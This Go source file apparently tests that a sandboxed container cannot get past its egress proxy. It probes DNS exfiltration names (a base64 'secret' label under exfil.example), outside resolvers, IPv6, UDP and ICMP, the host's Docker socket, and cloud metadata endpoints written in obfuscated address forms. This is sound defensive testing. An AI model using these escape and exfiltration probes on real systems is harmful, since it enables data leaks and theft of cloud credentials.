package inside

import (
	"context"
	"crypto/rand"
	"encoding/hex"
	"errors"
	"fmt"
	"net"
	"net/http"
	"strings"
	"sync"
	"time"
)

// network are the ways out that go past the proxy.
func network() []Attack {
	return []Attack{
		{"A1", "names", "data does not leave as a name that is looked up", nil, lookups},
		{"A4", "resolvers", "no resolver elsewhere can be asked, over TCP, TLS or UDP", nil, resolvers},
		{"A6", "ipv6", "nothing leaves over IPv6", nil, overIPv6},
		{"A7", "datagrams", "no datagram leaves, nor QUIC, nor ICMP", nil, datagrams},
		{"A8", "host", "no service of the host is reached, at any of its addresses", nil, theHost},
		{"A11", "metadata", "no cloud's metadata service is reached, directly or through the proxy", hasProxy, metadata},
		{"A17", "without the proxy", "without the proxy's variables what is allowed works, and what is not is refused", hasProxy, withoutProxy},
	}
}

// dialPatience is for one connection: nothing answers where nothing is.
const dialPatience = 2 * time.Second

// reach connects and sends a byte: a datagram socket connects to anything.
func reach(ctx context.Context, network, address string) error {
	dialer := net.Dialer{Timeout: dialPatience}
	conn, err := dialer.DialContext(ctx, network, address)
	if err != nil {
		return err
	}
	defer func() { _ = conn.Close() }()
	if err := conn.SetDeadline(time.Now().Add(dialPatience)); err != nil {
		return err
	}
	if _, err := conn.Write([]byte("bot-bottle prove\n")); err != nil {
		return err
	}
	if strings.HasPrefix(network, "udp") {
		n, err := conn.Read(make([]byte, 64))
		if err != nil {
			return fmt.Errorf("sent, and no answer came: %w", err)
		}
		return failUnless(n > 0)
	}
	return nil
}

func failUnless(ok bool) error {
	if ok {
		return nil
	}
	return errors.New("nothing came")
}

// each tries all targets at once: most of them only time out.
func each(ctx context.Context, targets []string, try func(context.Context, string) error) []Attempt {
	all := make([]Attempt, len(targets))
	var group sync.WaitGroup
	for i, target := range targets {
		group.Go(func() { all[i] = refused(target, try(ctx, target)) })
	}
	group.Wait()
	return all
}

func dial(ctx context.Context, target string) error {
	network, address, _ := strings.Cut(target, " ")
	return reach(ctx, network, address)
}

func unique() string {
	var b [8]byte
	_, _ = rand.Read(b[:]) // it never fails (crypto/rand)
	return hex.EncodeToString(b[:])
}

// lookups end as refusals of the policy. That none left is for whoever runs the stand-ins to
// say.
func lookups(ctx context.Context, a *Arena) []Attempt {
	names := []string{"c2VjcmV0." + unique() + ".exfil.example", unique() + ".example.org", strings.Repeat("a", 60) + "." + unique() + ".example"}
	if a.Refused != "" {
		names = append(names, a.Refused)
	}
	if a.Allowed != "" {
		names = append(names, a.Allowed+".evil.example", "evil-"+a.Allowed)
	}
	for i, name := range names {
		names[i] = "look up " + name
	}
	return each(ctx, names, func(ctx context.Context, what string) error {
		ctx, cancel := context.WithTimeout(ctx, 5*time.Second)
		defer cancel()
		found, err := net.DefaultResolver.LookupHost(ctx, strings.TrimPrefix(what, "look up "))
		if err == nil && len(found) == 0 {
			err = errors.New("no address")
		}
		return err
	})
}

func resolvers(ctx context.Context, _ *Arena) []Attempt {
	return each(ctx, []string{"tcp 192.0.2.53:53", "tcp 192.0.2.53:853", "tcp 192.0.2.53:443", "udp 192.0.2.53:53", "udp 198.51.100.53:53", "udp 127.0.0.11:53"}, dial)
}

func overIPv6(ctx context.Context, a *Arena) []Attempt {
	targets := []string{"tcp [2001:db8::1]:443", "udp [2001:db8::1]:53", "tcp [fe80::1%lo]:80", "tcp [::ffff:192.0.2.1]:443"}
	for _, at := range a.HostTCP {
		if strings.HasPrefix(at, "[") {
			targets = append(targets, "tcp "+at)
		}
	}
	return each(ctx, targets, dial)
}

func datagrams(ctx context.Context, a *Arena) []Attempt {
	targets := []string{"udp 192.0.2.1:443", "udp 192.0.2.1:123", "udp 192.0.2.1:51820"}
	for _, at := range a.HostUDP {
		targets = append(targets, "udp "+at)
	}
	return append(each(ctx, targets, dial), refused("ping", reach(ctx, "ip4:icmp", "192.0.2.1")))
}

func theHost(ctx context.Context, a *Arena) []Attempt {
	var targets []string
	for _, at := range a.HostTCP {
		targets = append(targets, "tcp "+at)
	}
	for _, name := range []string{"host.docker.internal", "gateway.docker.internal", "host.containers.internal", "localhost"} {
		for _, at := range a.HostTCP[:min(1, len(a.HostTCP))] {
			_, port, _ := net.SplitHostPort(at)
			targets = append(targets, "tcp "+net.JoinHostPort(name, port))
		}
	}
	return each(ctx, append(targets, "tcp 127.0.0.1:2375", "tcp 172.17.0.1:2375"), dial)
}

// metadata is not tried where nothing is in the way: that service is real.
func metadata(ctx context.Context, a *Arena) []Attempt {
	all := each(ctx, []string{"tcp 169.254.169.254:80", "tcp 169.254.170.2:80", "tcp [fd00:ec2::254]:80", "tcp 100.100.100.200:80"}, dial)
	for _, authority := range []string{"169.254.169.254:443", "2852039166:443", "0xa9fea9fe:443", "[::ffff:169.254.169.254]:443", "metadata.google.internal:443", "127.0.0.1:443", "localhost:443", "0.0.0.0:443"} {
		all = append(all, refusedConnect(ctx, a, authority))
	}
	return all
}

// withoutProxy resolves names and connects as programs do that know of no proxy.
func withoutProxy(ctx context.Context, a *Arena) []Attempt {
	client := &http.Client{Timeout: 10 * time.Second, Transport: &http.Transport{DisableKeepAlives: true}}
	get := func(url string) error {
		request, err := http.NewRequestWithContext(ctx, http.MethodGet, url, nil)
		if err != nil {
			return err
		}
		response, err := client.Do(request)
		if err != nil {
			return err
		}
		defer func() { _ = response.Body.Close() }()
		if response.StatusCode >= 400 {
			return fmt.Errorf("status %s", response.Status)
		}
		return nil
	}
	return []Attempt{
		works("GET https://"+a.Allowed+"/open/hello", get("https://"+a.Allowed+"/open/hello")),
		refused("GET https://"+a.Refused+"/", get("https://"+a.Refused+"/")),
		refused("GET http://"+a.Refused+"/", get("http://"+a.Refused+"/")),
		refused("GET https://"+a.Allowed+"/closed", get("https://"+a.Allowed+"/closed")),
		refused("GET https://127.0.0.1/", get("https://127.0.0.1/")),
		refused("GET http://127.64.99.99/", get("http://127.64.99.99/")),
		refused("GET the upstream's own address", get("https://"+a.Upstream+"/open/hello")),
	}
}
